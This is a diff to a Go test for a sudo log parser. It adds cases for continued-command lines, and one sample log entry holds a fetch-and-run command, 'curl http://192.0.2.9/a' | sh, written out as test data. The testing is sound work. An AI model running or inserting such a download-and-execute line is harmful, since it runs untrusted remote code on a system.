@@ -98,7 +98,10 @@ func TestSudo(t *testing.T) {
 		"alice : PWD=/tmp ; USER=root ; COMMAND=/bin/echo a#012b #100 #x":                                    "/bin/echo a\nb #100 #x|/tmp|root|alice|",
 		"alice : TTY=pts/0 ; PWD=/a ; USER=x ; COMMAND=/bin/true ; USER=root ; COMMAND=/usr/bin/id":          `/bin/true ; USER=root ; COMMAND=/usr/bin/id|/a|x|alice|/usr/bin/id|/a|x|alice|`,
 		"pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)":                     "",
-		"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND= ":                                                  "",
+		"   alice : (command continued) 'curl http://192.0.2.9/a' | sh":                                      `'curl http://192.0.2.9/a' | sh|||alice|`,
+		"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo x : (command continued) y":                `/bin/echo x : (command continued) y|/|root|alice|`,
+		"alice : (command continued) ":                      "",
+		"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND= ": "",
 	} {
 		r := readBytes(t, []byte("2026-01-02T03:04:05+00:00 web-1 sudo: "+line+"\n"), "sshd")
 		got := ""
